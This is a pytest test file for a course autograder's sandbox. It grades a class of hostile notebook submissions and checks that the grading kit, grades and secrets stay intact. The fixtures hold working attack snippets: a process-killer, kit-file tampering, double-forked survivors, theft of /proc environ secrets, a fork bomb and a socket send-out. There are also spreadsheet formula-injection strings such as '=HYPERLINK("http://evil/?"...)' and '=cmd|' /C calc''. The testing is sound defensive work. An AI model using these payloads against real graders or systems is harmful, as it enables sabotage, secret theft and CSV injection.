"""The grader against hostile submissions, as an ordinary user (Landlock) and as root (uid drop,
chroot, Landlock): the class is graded by the release's manifest, the kit and classmates' files
are untouched, nothing a submission started outlives grading, no secret reaches the gradebook."""

import csv
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

from minispdf import assignments as A
from minispdf.assignments import gradebook, landlock, manifest, reaping, sandbox
from test_assignments import _notebook

ROOT = Path(__file__).resolve().parents[1]
NOBODY = 65534
SECRET = "GRADER-SECRET-5e1f"
BOB_MARK = "BOB-ANSWER-93ac"
LOSS_MASK = ("def loss_mask(prompt_len, n_tokens):\n    return [0] * (prompt_len - 1) + [1] * "
             "(n_tokens - prompt_len)\n")
WRONG = "def loss_mask(prompt_len, n_tokens):\n    return [1] * (n_tokens - 1)\n"
BLOCK_FLOPS = ("def block_forward_flops(d_model, seq_len, n_head, sparsity):\n"
               "    d, T, h = d_model, seq_len, n_head\n"
               "    weights = 2 * T * (3 * d * d + d * d + 2 * d * 4 * d)\n"
               "    return weights * (1.0 - sparsity) + 2 * T * T * d + 3 * h * T * T + 2 "
               "* T * T * d\n")
LANDLOCK = landlock.abi()[0]
needs_landlock = pytest.mark.skipif(not LANDLOCK, reason=f"no Landlock here: {landlock.abi()[1]}")


def _attacks(work: Path, port: int) -> dict:
    """Each attacker's loss_mask cell; the function is right unless the attack meant to cheat."""
    kit, grades, marker = work / "kit" / "minispdf", work / "grades.csv", work / "outlived"
    return {
        "a_kills": "import os, signal\n"
                   "for pid in [os.getppid(), -os.getpgid(os.getppid())] + [p for p in range(2, 1 "
                   "<< 15) if p != os.getpid()]:\n"
                   "    try:\n        os.kill(pid, signal.SIGKILL) if pid > 0 else os.killpg(-pid, "
                   "signal.SIGKILL)\n"
                   "    except OSError:\n        pass\n" + LOSS_MASK,
        "b_rewrites_kit": "import sys, os\n"
                          "kit = os.path.dirname(getattr(sys, 'mod' + 'ules')['mini' + "
                          "'spdf'].__file__)\n"
                          f"for p in [kit + '/assignments/checks.py', kit + "
                          f"'/assignments/exercises.py', {str(kit)!r} + '/x.py']:\n"
                          "    try:\n        open(p, 'a').write('\\nPASS_EVERYTHING = True\\n')\n"
                          "    except OSError:\n        pass\n" + LOSS_MASK,
        "c_leaves_process": "import os, time\n"
                            "for _ in range(2):\n"
                            "    try:\n        pid = os.fork()\n    except "
                            "OSError:\n        break\n"
                            "    if pid == 0:\n        try:\n            os.setsid()\n"
                            "            if os.fork() == 0:\n"
                            "                time.sleep(4)\n"
                            f"                for p in [{str(grades)!r}, {str(marker)!r}]:\n"
                            "                    try:\n                        open(p, "
                            "'a').write('a,loss_mask,1000,2\\n')\n"
                            "                    except OSError:\n                        pass\n"
                            "        finally:\n            os._exit(0)\n" + LOSS_MASK,
        "d_steals": "import os, glob\n"
                    "stolen = []\n"
                    f"for p in ['/proc/%d/environ' % os.getppid(), '/proc/1/environ', "
                    f"{str(work / 'subs' / 'bob' / 'x.ipynb')!r},"
                    f" *glob.glob({str(work / 'subs')!r} + '/*/*.ipynb')]:\n"
                    "    try:\n        stolen.append(open(p, 'rb').read().decode('latin-1'))\n"
                    "    except OSError:\n        pass\n"
                    "def loss_mask(prompt_len, n_tokens):\n"
                    "    raise RuntimeError('stolen: ' + ' '.join(stolen).replace(chr(0), ' "
                    "')[:1500])\n",
        "e_forks": "import os, time\n"
                   "for _ in range(100):\n"
                   "    try:\n        if os.fork() == 0:\n            time.sleep(60)\n            "
                   "os._exit(0)\n"
                   "    except OSError:\n        break\n" + LOSS_MASK,
        "f_connects": "import socket\n"
                      "try:\n"
                      f"    socket.create_connection(('127.0.0.1', {port}), "
                      f"timeout=2).sendall(b'{SECRET}')\n"
                      "    got = 'connected'\n"
                      "except OSError as e:\n    got = repr(e)\n"
                      "def loss_mask(prompt_len, n_tokens):\n    raise RuntimeError(got)\n",
    }


def _class(work: Path, port: int) -> dict:
    """Write the class under work/subs; returns the expected points (student, exercise) -> (points,
    max)."""
    subs = work / "subs"
    for name, source in _attacks(work, port).items():
        _notebook(subs / f"{name}.ipynb", ("loss_mask", source), ("block_flops", BLOCK_FLOPS))
    _notebook(subs / "bob" / "04_dense_finetuning.ipynb",
              ("loss_mask", f"# {BOB_MARK}\n" + LOSS_MASK))
    _notebook(subs / "bob" / "02_flop_accounting.ipynb", ("block_flops", BLOCK_FLOPS))
    _notebook(subs / "g_deleted.ipynb", ("loss_mask", LOSS_MASK))  # deleted the block_flops cell
    _notebook(subs / "h_extras" / "04_dense_finetuning.ipynb", ("loss_mask", WRONG),
              ("block_flops", BLOCK_FLOPS))
    for extra in ("copy1", "copy2"):  # solved copies do not replace the failed exercise
        _notebook(subs / "h_extras" / f"{extra}.ipynb", ("loss_mask", LOSS_MASK))
    _notebook(subs / "=1+2.ipynb", ('=HYPERLINK("http://evil/?"&A1,"x")', LOSS_MASK),
              ("loss_mask", LOSS_MASK),
              ("block_flops", BLOCK_FLOPS))
    _notebook(subs / "j_empty.ipynb", (None, "x = 1"))
    got = {}
    for student, lm in [("a_kills", 2), ("b_rewrites_kit", 2), ("c_leaves_process", 2),
                        ("d_steals", 0),
                        ("e_forks", 2), ("f_connects", 0), ("bob", 2), ("g_deleted", 2),
                        ("h_extras", 0),
                        ("'=1+2", 2), ("j_empty", 0)]:
        got[student, "loss_mask"] = (lm, 2)
        got[student, "block_flops"] = (0 if student in ("g_deleted", "j_empty") else 3, 3)
    return got


def _tree_hash(folder: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        if p.is_file() and "__pycache__" not in p.parts:
            h.update(str(p.relative_to(folder)).encode() + p.read_bytes())
    return h.hexdigest()


def _processes_of(uid: int) -> list[str]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if os.stat(f"/proc/{entry}").st_uid == uid:
                    found.append(Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0",
                        b" ").decode()[:80])
            except OSError:
                pass
    return found


def _as_nobody(work: Path, command: list[str], env: dict) -> list[str]:
    """``command`` as uid/gid 65534 in a private mount namespace where the Python installation is
    reachable (a pyenv under /root, mode 0700, is bound into a world-readable /root there)."""
    prefix = Path(sys.base_prefix).resolve()
    script = ["set -e"]
    if str(prefix).startswith("/root/"):
        stage = work / "stage"
        stage.mkdir()
        script += [f"mount --bind /root {stage}", "mount -t tmpfs -o mode=755 tmpfs /root",
                   f"mkdir -p {prefix}",
                   f"mount --bind {stage}/{prefix.relative_to('/root')} {prefix}"]
    assignments = " ".join(f"{k}={v}" for k, v in env.items())
    script.append(f"exec setpriv --reuid {NOBODY} --regid {NOBODY} --clear-groups env -i "
                  f"{assignments} "
                  + " ".join(command))
    return ["unshare", "-m", "--propagation", "private", "sh", "-c", "\n".join(script)]


def _grade_class(work: Path, as_root: bool):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.setblocking(False)
    expected = _class(work, listener.getsockname()[1])
    release = manifest.build([("04_dense_finetuning.ipynb", "loss_mask"),
                              ("02_flop_accounting.ipynb", "block_flops")])
    manifest.write(work, release)
    shutil.copytree(ROOT / "minispdf", work / "kit" / "minispdf",
                    ignore=shutil.ignore_patterns("__pycache__"))
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(work),
           "PYTHONPATH": str(work / "kit"),
           "GRADER_TOKEN": SECRET}
    command = [sys.executable, "-m", "minispdf.assignments", "grade", str(work / "subs"), "--csv",
               str(work / "grades.csv"), "--manifest", str(work / manifest.FILE), "--timeout", "60"]
    if not as_root:
        subprocess.run(["chown", "-R", f"{NOBODY}:{NOBODY}", str(work)], check=True)
        command = _as_nobody(work, command, env)
    kit_before, bob_before = _tree_hash(work / "kit"), _tree_hash(work / "subs" / "bob")
    done = subprocess.run(command, capture_output=True, text=True, timeout=900, cwd=work,
                          env=env if as_root else None)
    time.sleep(5)  # the double-forked leftovers, had they survived, would have written by now
    try:
        intruder = listener.accept()
    except BlockingIOError:
        intruder = None
    listener.close()
    return done, expected, kit_before, bob_before, intruder


def _check_class(work: Path, done, expected, kit_before, bob_before, intruder) -> list[dict]:
    # some fail; the grader lived
    assert done.returncode == 1, done.stdout[-2000:] + done.stderr[-2000:]
    rows = list(csv.DictReader((work / "grades.csv").open()))
    got = {(r["student"], r["exercise"]): (int(r["points"]), int(r["max_points"])) for r in rows}
    assert got == expected, rows
    text = (work / "grades.csv").read_text()
    assert SECRET not in text + done.stdout and BOB_MARK not in text + done.stdout
    assert "a,loss_mask,1000" not in text and not (work / "outlived").exists()
    assert all(not v.startswith(gradebook.FORMULA_STARTS) for r in csv.reader(text.splitlines())
               for v in r)
    assert (_tree_hash(work / "kit") == kit_before
            and _tree_hash(work / "subs" / "bob") == bob_before)
    assert intruder is None
    notes = {r["student"]: r["notes"] for r in rows}
    assert "loss_mask again in copy1.ipynb: not counted" in notes["h_extras"]
    assert ("copy2.ipynb" in notes["h_extras"]
            and "no exercises in j_empty.ipynb" in notes["j_empty"])
    assert ("'=1+2" in notes and "=HYPERLINK(" in notes["'=1+2"]
            and "was not released: not counted" in notes["'=1+2"])
    feedback = {r["student"]: r["feedback"] for r in rows if r["exercise"] == "block_flops"}
    assert feedback["g_deleted"].startswith("submitted: missing")
    return rows


# a grader as another user, 11 students: ~40 s at load 2, 18.5 min at nice 19 beside a busy grid
@pytest.mark.slow
@needs_landlock
def test_hostile_class_as_an_ordinary_user_with_landlock():
    if os.geteuid() != 0 or not shutil.which("unshare") or not shutil.which("setpriv"):
        pytest.skip("needs root to start the grader as an unprivileged user (unshare, setpriv)")
    work = Path(tempfile.mkdtemp(prefix="minispdf-confine-", dir="/tmp"))
    os.chmod(work, 0o755)
    try:
        done, *rest = _grade_class(work, as_root=False)
        for _ in range(30):  # the grader's fork server ends when it does; leftovers would sleep on
            if not _processes_of(NOBODY):
                break
            time.sleep(1)
        # nothing of the grading user outlived it
        assert not _processes_of(NOBODY), _processes_of(NOBODY)
        rows = _check_class(work, done, *rest)
        assert all(r["notes"].startswith("confinement user: Landlock ABI") for r in rows
                   if r["notebook"])
        assert "confinement user: Landlock" in done.stdout
    finally:
        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            try:
                if os.stat(f"/proc/{pid}").st_uid == NOBODY:
                    os.kill(pid, 9)
            except OSError:
                pass
        shutil.rmtree(work, ignore_errors=True)


@pytest.mark.slow  # the same class graded as root
@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0,
                    reason="the root path needs a grader running as root")
def test_hostile_class_as_root(tmp_path):
    done, *rest = _grade_class(tmp_path, as_root=True)
    rows = _check_class(tmp_path, done, *rest)
    assert all(r["notes"].startswith("confinement root: uid drop + chroot") for r in rows
               if r["notebook"])


def test_no_confinement_refuses_to_run_student_code_unless_unconfined(tmp_path, monkeypatch,
                                                                      capsys):
    _notebook(tmp_path / "alice.ipynb", ("loss_mask", LOSS_MASK))
    monkeypatch.setattr(sandbox, "confinement",
                        lambda: (None, 0, "Landlock is Linux's, and this is darwin"))
    assert A.main(["grade", str(tmp_path / "alice.ipynb")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "this is darwin" in err and "--unconfined" in err, err
    assert A.main(["grade", str(tmp_path / "alice.ipynb"), "--unconfined",
                   "--csv", str(tmp_path / "g.csv")]) == 0
    rows = list(csv.DictReader((tmp_path / "g.csv").open()))
    assert ([r["points"] for r in rows] == ["2"]
            and all(r["notes"].startswith("unconfined") for r in rows))


def test_the_gradebook_neutralises_formulas_and_exports_canvas_and_moodle(tmp_path):
    ex = dict(name="=cmd|' /C calc'!A0", passed=False, points=0, max_points=2,
              checks=[dict(check="runs", passed=False, message="x")])
    results = [dict(student="@alice", notebooks=[], exercises={ex["name"]: ex}, passed=0, total=1,
                    points=0,
                    max_points=2, isolation="", notes=["-1+1", "\tx"])]
    for form in gradebook.FORMATS:
        gradebook.write(str(tmp_path / f"{form}.csv"), results, form)
        cells = [v for row in csv.reader((tmp_path / f"{form}.csv").open()) for v in row]
        assert all(not v.startswith(gradebook.FORMULA_STARTS) for v in cells), (form, cells)
        assert "'@alice" in cells
    assert next(csv.reader((tmp_path / "canvas.csv").open()))[:4] == ["Student", "ID",
                                                                      "SIS User ID", "SIS Login ID"]
    assert A.main(["grade", "--format", "canvas", str(tmp_path / "x.ipynb")]) == 2


def test_release_writes_a_manifest_and_grading_counts_from_it(tmp_path):
    files = A.release(str(tmp_path / "handout"), src=str(ROOT / "notebooks"))
    assert manifest.FILE in files
    release = manifest.read(tmp_path / "handout" / manifest.FILE)
    assert {e["id"] for e in release["exercises"]} == set(A.EXERCISES)
    assert release["total"] == sum(e.points for e in A.EXERCISES.values())
    assert all(len(e["checks_sha256"]) == 64 for e in release["exercises"])
    (tmp_path / "bad.json").write_text(json.dumps({"exercises": [{"id": "nope"}]}))
    with pytest.raises(A.MiniSPDFError, match="not a manifest"):
        manifest.read(tmp_path / "bad.json")
    chosen, notes = manifest.assign(release, [(Path("a/04_dense_finetuning.ipynb"),
                                               {"loss_mask": [("c", "x")]}),
                                              (Path("a/z.ipynb"),
                                               {"loss_mask": [("c", "y")], "=x": []})])
    assert list(chosen) == [Path("a/04_dense_finetuning.ipynb")]
    assert notes == ["loss_mask again in z.ipynb: not counted (each exercise scores once)",
                     "=x in z.ipynb was not released: not counted",
                     "extra notebook z.ipynb: nothing in it counted"]
    scored = manifest.score(release, {})
    assert (scored["points"] == 0 and scored["max_points"] == release["total"]
            and not scored["all_passed"])


HIDDEN = """
def loss_mask_hidden(fn):
    def long_prompt():
        assert fn(7, 9) == [0] * 6 + [1] * 2, "a 7-token prompt"
    return [("a 7-token prompt and a 2-token target", long_prompt)]

HIDDEN_CHECKS = {"loss_mask": loss_mask_hidden}
"""


def test_hidden_checks_run_at_grading_only_and_fail_hard_coded_answers(tmp_path):
    hidden = tmp_path / "hidden.py"
    hidden.write_text(HIDDEN)
    cases = [
        c for c, _ in A.EXERCISES["loss_mask"].checks(lambda p, n: [0] * (p - 1) + [1] * (n - p))]
    assert cases and not any("7-token" in c for c in cases)  # not among the public checks
    hard_coded = "def loss_mask(prompt_len, n_tokens):\n    return [0] * (prompt_len - 1) + [1] " \
                 "* (n_tokens - prompt_len) " \
                 "if (prompt_len, n_tokens) != (7, 9) else [1]\n"
    _notebook(tmp_path / "s" / "cheat.ipynb", ("loss_mask", hard_coded))
    _notebook(tmp_path / "s" / "honest.ipynb", ("loss_mask", LOSS_MASK))
    try:
        plain = {r["student"]: r["points"]
                 for r in A.grade_submissions([str(tmp_path / "s")], timeout=60)}
        hard = {r["student"]: r
                for r in A.grade_submissions([str(tmp_path / "s")], timeout=60, hidden=str(hidden))}
    finally:
        A.exercises.use_hidden(None)
    assert plain == {"cheat": 2, "honest": 2}
    assert hard["honest"]["points"] == 2 and hard["cheat"]["points"] == 0
    failed = [c for c in hard["cheat"]["exercises"]["loss_mask"]["checks"] if not c["passed"]]
    assert [c["check"] for c in failed] == ["hidden: a 7-token prompt and a 2-token target"]


@pytest.mark.skipif(not sys.platform.startswith("linux"),
                    reason="child subreapers are a Linux feature")
def test_grading_in_process_leaves_the_caller_no_subreaper():
    """A notebook or test that grades in-process must not go on adopting (and never reaping) the
    orphans of its later children: the grader stops being a subreaper when it is done."""
    assert not landlock.is_subreaper()
    reaper = reaping.Reaper()
    assert landlock.is_subreaper() == reaper.subreaper
    reaper.close()
    assert not landlock.is_subreaper()
